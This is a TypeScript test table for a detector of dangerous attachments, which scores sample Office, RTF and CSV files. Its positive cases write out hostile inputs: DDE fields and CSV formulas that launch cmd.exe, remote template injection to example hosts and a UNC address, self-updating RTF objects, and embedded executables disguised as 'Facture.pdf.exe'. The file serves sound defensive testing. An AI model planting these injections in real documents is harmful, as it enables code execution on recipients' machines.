import { checkTable, type Row } from '../testing/check-table.ts';
import { createProgram, createZip } from '../testing/files.ts';
import {
  createBook,
  createCarrier,
  createObject,
  createOldBook,
  createOpenText,
  createRelated,
  createWord,
} from '../testing/office-samples.ts';
import { attachmentRuns } from './attachment-runs.ts';
import { officeActs } from './office-acts.ts';

const file = (
  what: string,
  [name, content]: readonly [string, Uint8Array | string],
  expect: Row['expect'],
  quotes?: string,
): Row => ({
  what,
  message: { files: [{ name, content }] },
  expect,
  ...(quotes === undefined ? {} : { quotes }),
});
const field = (words: string) => `<w:p><w:r><w:instrText>${words}</w:instrText></w:r></w:p>`;
const template = (target: string) => createRelated('attachedTemplate', target);
const rtf = (words: string) => `{\\rtf1\\ansi ${words}}`;
const hex = (octets: Uint8Array) => Buffer.from(octets).toString('hex');

checkTable(officeActs, [
  file(
    'a template from elsewhere',
    ['note.docx', template('https://modeles-x.example/a.dotm')],
    0.9,
    'modeles-x.example',
  ),
  file('its address in numbers', ['note.docx', template('&#x68;ttps://modeles-x.example/a.dotm')], 0.9),
  file(
    'a template on a far computer',
    ['note.docx', template('file:///\\\\203.0.113.7\\s\\a.dotm')],
    0.9,
    '203.0.113.7',
  ),
  file(
    'an object behind mhtml',
    [
      'note.docx',
      createRelated('oleObject', 'mhtml:https://x-y.example/a.html!x-usc:https://x-y.example/a.html'),
    ],
    0.9,
  ),
  file('a picture from a far disk', ['note.docx', createRelated('image', '\\\\serveur.example\\a.png')], 0.9),
  file(
    'a section of OpenDocument',
    ['note.odt', createOpenText('<text:section-source xlink:href="https://x-y.example/a.odt"/>')],
    0.9,
  ),
  file(
    'a field over two runs',
    ['note.docx', createWord(field('DDEA') + field('UTO c:\\windows\\system32\\cmd.exe "/k calc"'))],
    1,
    'cmd.exe',
  ),
  file('a simple field', ['note.docx', createWord('<w:fldSimple w:instr="DDE cmd /k"></w:fldSimple>')], 1),
  file(
    'a linked service',
    [
      'liste.xlsx',
      createBook('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd" ddeTopic="/C calc"/>'),
    ],
    1,
    'cmd',
  ),
  file('a formula in a table', ['liste.csv', "nom;classe\n=cmd|' /C calc'!A0;3B"], 1, 'cmd'),
  file('behind a quote and a plus', ['liste.csv', '"+MSEXCEL|\'\\..\\..\\cmd.exe /c calc\'!A0"'], 1),
  file('macros of Excel 4', ['liste.xls', createOldBook([0, 1])], 0.7, 'anciennes macros'),
  file(
    'the same in the new form',
    ['liste.xlsx', createBook('xl/macrosheets/sheet1.xml', '<xm:macrosheet/>')],
    0.7,
  ),
  file(
    'an object that updates itself',
    ['note.rtf', rtf('{\\object\\objemb\\objupdate{\\*\\objdata 01}}')],
    0.8,
  ),
  file('a template of rich text', ['note.doc', rtf('{\\*\\template https://x-y.example/a.dot}')], 0.9),
  file('the sender’s own template', ['note.docx', template('file:///C:\\Users\\anne\\Normal.dotm')], 0),
  file(
    'a template on a computer of the house',
    ['note.docx', template('file:///\\\\srv-modeles\\lettre.dotx')],
    0,
  ),
  file(
    'a template of the académie',
    ['note.docx', template('https://intranet.ac-nancy-metz.fr/lettre.dotx')],
    0,
  ),
  file('a template of the ministry', ['note.docx', template('https://www.education.gouv.fr/lettre.dotx')], 0),
  file('a picture from the web', ['note.docx', createRelated('image', 'https://cdn.example/a.png')], 0),
  file('links', ['note.docx', createRelated('hyperlink', 'https://eduscol.education.fr/')], 0),
  file('a field with a page number', ['note.docx', createWord(field('PAGE \\* MERGEFORMAT'))], 0),
  file('words about DDE', ['note.docx', createWord('<w:t>La DDE auto de la Meuse</w:t>')], 0),
  file('telephone numbers', ['contacts.csv', 'Nom;Tel\nDupont;+33 6 12 34 56 78|domicile\n-5|-3 !'], 0),
  file('sums', ['notes.csv', 'a;=A1+B1;=SOMME(A1:A3)'], 0),
  file('a table of cells', ['notes.xls', createOldBook([0, 0, 2])], 0),
  file('a letter', ['lettre.rtf', rtf('Bonjour \\par')], 0),
]);

checkTable(attachmentRuns, [
  file('a program as a part', ['note.docx', createCarrier('oleObject1.bin', createProgram())], 1),
  file(
    'a program to be pressed',
    ['note.docx', createCarrier('oleObject1.bin', createObject('Facture.pdf.exe', Buffer.from('x')))],
    1,
    'Facture.pdf.exe',
  ),
  file(
    'a program under another name',
    ['note.docx', createCarrier('oleObject1.bin', createObject('notes.txt', createProgram()))],
    1,
  ),
  file('in an old document', ['note.doc', createObject('lancer.vbs', Buffer.from('x'))], 1, 'lancer.vbs'),
  file(
    'in rich text',
    ['note.rtf', rtf(`{\\object{\\*\\objdata 0105\n${hex(Buffer.from('Package\0lancer.js\0'))}}}`)],
    1,
    'lancer.js',
  ),
  file('a program in rich text', ['note.rtf', rtf(`{\\object{\\*\\objdata ${hex(createProgram())}}}`)], 1),
  file(
    'a table in a letter',
    ['note.docx', createCarrier('Feuille1.xlsx', createZip(['[Content_Types].xml', 'xl/workbook.xml']))],
    0,
  ),
  file(
    'a paper to be pressed',
    ['note.docx', createCarrier('oleObject1.bin', createObject('bareme.pdf', Buffer.from('%PDF-1.4')))],
    0,
  ),
  file('an equation', ['cours.docx', createCarrier('oleObject1.bin', createOldBook([0]))], 0),
]);
